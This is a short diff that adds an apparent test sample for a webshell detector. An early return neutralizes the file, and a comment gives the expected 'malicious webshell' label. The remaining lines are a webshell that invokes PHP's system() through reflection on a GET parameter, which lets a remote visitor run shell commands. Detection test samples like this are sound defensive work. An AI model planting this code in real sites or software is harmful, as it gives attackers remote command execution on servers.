@@ -1,0 +1,3 @@
+<?php return; // want: malicious webshell php.command.request
+$f = new ReflectionFunction('system');
+$f->invokeArgs(array($_GET['c']));
